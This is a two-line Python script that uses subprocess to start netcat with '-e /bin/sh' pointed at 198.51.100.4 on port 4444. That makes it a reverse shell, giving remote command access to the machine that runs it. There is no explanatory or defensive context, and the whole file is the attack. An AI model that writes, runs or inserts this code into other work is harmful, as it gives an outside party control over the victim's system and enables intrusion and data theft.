import subprocess
subprocess.Popen(['nc', '-e', '/bin/sh', '198.51.100.4', '4444'])
